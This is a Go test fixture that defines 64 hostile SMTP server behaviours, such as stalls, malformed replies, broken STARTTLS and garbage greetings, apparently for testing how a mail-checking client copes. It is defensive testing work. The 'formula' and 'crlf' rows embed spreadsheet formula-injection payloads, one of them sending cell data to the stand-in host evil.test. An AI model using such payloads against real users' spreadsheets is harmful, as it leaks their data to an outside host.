package smtplab

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"sync"
	"time"

	"rollcall/smtp"
)

// HostileRow is one of the behaviours that a client must survive, in clear and after STARTTLS.
type HostileRow struct {
	Number    int
	Name      string     // the personality in clear; with "tls" behind it, the one after STARTTLS
	About     string     // one sentence for people
	Stage     smtp.Stage // where it happens
	clear     Personality
	twinNeeds bool // the twin is the same receiver with required TLS, because the behaviour is about STARTTLS itself
}

// HostileRows returns the 64 behaviours in order. Each is two personalities, of the families "hostile" and
// "hostiletls". The second refuses MAIL before STARTTLS and behaves well until after the handshake; a behaviour at
// the greeting then comes right after it. If the behaviour is about STARTTLS itself, the second only requires TLS.
func HostileRows() []HostileRow {
	var rows []HostileRow
	for _, group := range [][]HostileRow{
		hostileWaits(), hostileLines(), hostileCodes(), hostileOrder(), hostileEnds(), hostileHello(),
		hostileTLS(), hostileAnswers(), hostileStrangers(),
	} {
		rows = append(rows, group...)
	}
	for i := range rows {
		rows[i].Number = i + 1
	}
	return rows
}

// hostile returns the personalities of HostileRows in clear, hostileInside those after STARTTLS.
func hostile() []Personality {
	var out []Personality
	for _, r := range HostileRows() {
		p := r.clear
		p.Name, p.About = r.Name, r.About
		out = append(out, p)
	}
	return out
}

func hostileInside() []Personality {
	var out []Personality
	for _, r := range HostileRows() {
		p := r.clear
		if r.twinNeeds {
			p.NeedsTLS = true
			if p.TLS == TLSRefused || p.TLS == TLSNone || p.BreakAt == smtp.StageTLS {
				p.Fixed = smtp.Unknown
			}
		} else {
			inside := r.clear
			p = Personality{
				TLS: TLSSelfSigned, NeedsTLS: true, AfterTLS: &inside,
				Fixed: inside.Fixed, Also: inside.Also, Reasons: inside.Reasons, Hard: inside.Hard,
				NoEnhanced: inside.NoEnhanced, UTF8: inside.UTF8,
			}
		}
		p.Name, p.About = r.Name+"tls", r.About+", after STARTTLS"
		out = append(out, p)
	}
	return out
}

// silentAbout sets the truth for a receiver whose replies say nothing about an address.
func silentAbout(p Personality) Personality {
	p.Fixed = smtp.Unknown
	return p
}

// hardly sets the truth for a receiver that knows its mailboxes but is hard to understand: unknown is acceptable, a
// wrong outcome is not.
func hardly(p Personality) Personality {
	p.Hard = true
	return p
}

func row(name, about string, stage smtp.Stage, p Personality) HostileRow {
	return HostileRow{Name: "h" + name, About: about, Stage: stage, clear: p}
}

// breaks returns a receiver that breaks at a stage and says nothing about an address.
func breaks(name, about string, stage smtp.Stage, how Break) HostileRow {
	return row(name, about, stage, silentAbout(Personality{BreakAt: stage, Break: how}))
}

// says returns a receiver that sends words at a stage and closes.
func says(name, about string, stage smtp.Stage, words string) HostileRow {
	return row(name, about, stage, silentAbout(Personality{BreakAt: stage, Break: BreakSay, BreakWords: words}))
}

// answers returns a receiver that gives every RCPT the same meaningless reply.
func answers(name, about, reply string) HostileRow {
	return row(name, about, smtp.StageRcpt, silentAbout(Personality{Words: Words{Any: reply}}))
}

func hostileWaits() []HostileRow {
	return []HostileRow{
		breaks("silent", "accepts the connection and never speaks", smtp.StageGreeting, BreakSilent),
		row("late59", "greets after 59 s", smtp.StageGreeting, hardly(Personality{GreetDelay: 59 * time.Second})),
		row("late61", "greets after 61 s", smtp.StageGreeting, hardly(Personality{GreetDelay: 61 * time.Second})),
		row("stutter", "one byte in a second", smtp.StageGreeting, hardly(Personality{ByteDelay: time.Second})),
		breaks("endless", "a greeting whose lines never end", smtp.StageGreeting, BreakEndless),
		breaks("endlessline", "a greeting of one line that never ends", smtp.StageGreeting, BreakLine),
		breaks("endlessrcpt", "an answer to RCPT whose lines never end", smtp.StageRcpt, BreakEndless),
		breaks("window", "greets and closes its TCP window", smtp.StageGreeting, BreakWindow),
	}
}

func hostileLines() []HostileRow {
	unknown := func(text string) Personality {
		return hardly(Personality{Words: Words{Mailboxes: [MailboxKinds]string{NotFound: text}}})
	}
	return []HostileRow{
		row("lf", "lines end with LF alone", smtp.StageGreeting, hardly(Personality{BareLF: true})),
		row("cr", "lines end with CR alone", smtp.StageGreeting, silentAbout(Personality{BareCR: true})),
		row("nul", "a NUL in a reply", smtp.StageRcpt, unknown("550 5.1.1 User\x00unknown")),
		row("eightbit", "bytes in a reply that are no ASCII and no UTF-8", smtp.StageRcpt,
			unknown("550 5.1.1 User unknown \xff\xfe\x80")),
		row("split", "each byte in a packet of its own", smtp.StageGreeting, Personality{ByteDelay: 1}),
		row("partial", "closes in the middle of an answer to RCPT", smtp.StageRcpt, silentAbout(Personality{
			BreakAt: smtp.StageRcpt, Break: BreakSay, BreakWords: "550 5.1.1 User unk"})),
	}
}

func hostileCodes() []HostileRow {
	nospace := Personality{NoEnhanced: true, Words: Words{Mailboxes: [MailboxKinds]string{
		NotFound: "550User unknown", Exists: "250Ok",
	}}}
	return []HostileRow{
		answers("twodigits", "a reply code of two digits", "55 5.1.1 User unknown"),
		answers("fourdigits", "a reply code of four digits", "5501 5.1.1 User unknown"),
		answers("code000", "a reply code of 000", "000 5.1.1 User unknown"),
		answers("code999", "a reply code of 999", "999 5.1.1 User unknown"),
		answers("code354", "354 at RCPT", "354 Go ahead"),
		answers("twocodes", "the code changes within a reply", "550-5.1.1 User unknown\n250 2.1.5 Ok"),
		row("nospace", "text behind the code without a space", smtp.StageRcpt, hardly(nospace)),
	}
}

func hostileOrder() []HostileRow {
	behind := func(stage smtp.Stage, how Break, words string) Personality {
		return hardly(Personality{BreakAt: stage, Break: how, BreakWords: words})
	}
	return []HostileRow{
		row("twice", "a contrary reply in the same packet as the answer to RCPT", smtp.StageRcpt,
			behind(smtp.StageRcpt, BreakTwice, "")),
		row("early", "a refusal of RCPT before RCPT is sent", smtp.StageMail,
			behind(smtp.StageMail, BreakEarly, contraryNo)),
	}
}

// closing421 is the reply of the 421 rows.
const closing421 = "421 4.3.2 Service closing transmission channel\r\n"

func hostileEnds() []HostileRow {
	rows := []HostileRow{
		row("421idle", "421 to a client that is silent for a second", smtp.StageRset,
			hardly(Personality{IdleMax: time.Second})),
		row("421behind", "421 behind the answer to RCPT", smtp.StageRcpt, hardly(Personality{
			BreakAt: smtp.StageRcpt, Break: BreakBehind, BreakWords: closing421})),
		row("421rset", "421 at RSET", smtp.StageRset, hardly(Personality{
			BreakAt: smtp.StageRset, Break: BreakSay, BreakWords: closing421})),
		row("resetrset", "resets at RSET", smtp.StageRset, hardly(Personality{
			BreakAt: smtp.StageRset, Break: BreakReset})),
		row("resethalf", "resets in the middle of an answer to RCPT", smtp.StageRcpt, silentAbout(Personality{
			BreakAt: smtp.StageRcpt, Break: BreakSayReset, BreakWords: "250-2.1.5 O"})),
		breaks("half", "closes its own side at RCPT and reads on", smtp.StageRcpt, BreakHalf),
	}
	for _, at := range []struct {
		name  string
		stage smtp.Stage
	}{
		{"greeting", smtp.StageGreeting}, {"hello", smtp.StageHello}, {"mail", smtp.StageMail},
		{"rcpt", smtp.StageRcpt},
	} {
		rows = append(rows, says("421"+at.name, "421 at the stage "+at.name, at.stage, closing421),
			breaks("reset"+at.name, "resets at the stage "+at.name, at.stage, BreakReset))
	}
	for _, r := range []HostileRow{
		says("421starttls", "421 at STARTTLS", smtp.StageTLS, closing421),
		breaks("resetstarttls", "resets at STARTTLS", smtp.StageTLS, BreakReset),
	} {
		r.clear.TLS, r.clear.Fixed, r.clear.Hard, r.twinNeeds = TLSSelfSigned, smtp.Undecided, true, true
		rows = append(rows, r)
	}
	return rows
}

// extensions10000 is an EHLO reply with 10,000 lines.
var extensions10000 = sync.OnceValue(func() string {
	lines := make([]string, 10_000)
	for i := range lines {
		lines[i] = fmt.Sprintf("X-FEATURE-%d", i)
	}
	return strings.Join(lines, "\n")
})

func hostileHello() []HostileRow {
	extra := func(text string) Personality { return hardly(Personality{Words: Words{Extra: text}}) }
	return []HostileRow{
		row("extensions", "10,000 extensions", smtp.StageHello, extra(extensions10000())),
		row("longextension", "an extension of 4 KiB", smtp.StageHello, extra("X-"+strings.Repeat("LONG", 1<<10))),
		row("size", "a SIZE that no number type holds", smtp.StageHello, extra("SIZE "+strings.Repeat("9", 40))),
	}
}

func hostileTLS() []HostileRow {
	tls := func(name, about string, how TLS) HostileRow {
		r := row(name, about, smtp.StageTLS, hardly(Personality{TLS: how}))
		r.twinNeeds = true
		return r
	}
	knowable := func(r HostileRow) HostileRow {
		r.clear.Hard = false
		return r
	}
	rows := []HostileRow{
		tls("starttls454", "offers STARTTLS and says 454 to it", TLSRefused),
		tls("tlsgarbage", "accepts STARTTLS, then bytes without meaning", TLSGarbage),
		tls("injected", "a reply in clear in the packet of the 220 to STARTTLS", TLSInjected),
		knowable(tls("expired", "a certificate whose time is over", TLSExpired)),
		knowable(tls("selfsigned", "a certificate for its name that nobody signed", TLSRightName)),
		knowable(tls("wrongname", "a certificate for another host", TLSWrongName)),
		tls("flood", "TLS records without content and without end", TLSFlood),
		tls("renegotiate", "asks for a new handshake", TLSRenegotiate),
		tls("stall", "accepts STARTTLS, then no handshake", TLSStalled),
		knowable(tls("again", "offers STARTTLS again inside TLS", TLSAgain)),
	}
	return rows
}

func hostileAnswers() []HostileRow {
	unknown := func(text string) Personality {
		return hardly(Personality{Words: Words{Mailboxes: [MailboxKinds]string{NotFound: text}}})
	}
	every := Personality{CatchAll: true, Fixed: smtp.CatchAll, Reasons: []smtp.Reason{smtp.AcceptAll}}
	cannot := Personality{Words: Words{Any: "252 2.1.5 Cannot VRFY user"}, Fixed: smtp.CatchAll,
		Reasons: []smtp.Reason{smtp.NoRcptAnswer, smtp.AcceptAll}}
	second := Personality{Greylist: true, GreylistWait: 1, // any second try passes
		Words: Words{Greylist: "451 4.3.0 Temporary failure"}}
	return []HostileRow{
		row("all250", "250 to every address", smtp.StageRcpt, every),
		row("all252", "252 to every address", smtp.StageRcpt, cannot),
		row("second250", "451, and its true answer at the next try", smtp.StageRcpt, second),
		answers("all552", "552 for too many recipients, at the first one", "552 Too many recipients"),
		answers("all571", "550 5.7.1 for everybody", "550 5.7.1 Message refused by policy"),
		row("formula", "a text that a spreadsheet would run", smtp.StageRcpt,
			unknown(`550 5.1.1 =HYPERLINK("http://evil.test/?"&A1,"User unknown")`)),
		row("crlf", "line ends and tabs within the text", smtp.StageRcpt,
			unknown("550-5.1.1 User\r=1+1\r\t\n550 5.1.1 unknown\r@SUM(A1)")),
		row("long", "a text of 60 KiB", smtp.StageRcpt, unknown(longText())),
	}
}

// longText returns a refusal with 60 lines of a KiB each.
func longText() string {
	const lines, bytes = 60, 1 << 10
	line := "5.1.1 User unknown "
	line += strings.Repeat("x", bytes-len("550-")-len(line)-len("\r\n"))
	return strings.Repeat("550-"+line+"\n", lines-1) + "550 " + line
}

// nonsense is 4 KiB of fixed, meaningless text.
var nonsense = sync.OnceValue(func() string {
	random := rand.New(rand.NewPCG(1, 2))
	out := make([]byte, 4<<10)
	for i := range out {
		out[i] = byte(random.Uint32())
	}
	return string(out)
})

func hostileStrangers() []HostileRow {
	const greeting = smtp.StageGreeting
	return []HostileRow{
		says("random", "bytes without meaning", greeting, nonsense()),
		says("http", "answers like a web server", greeting, garbage),
		says("ssh", "greets like an SSH server", greeting, "SSH-2.0-OpenSSH_9.9\r\n"),
		breaks("echo", "sends back what it gets", greeting, BreakEcho),
	}
}
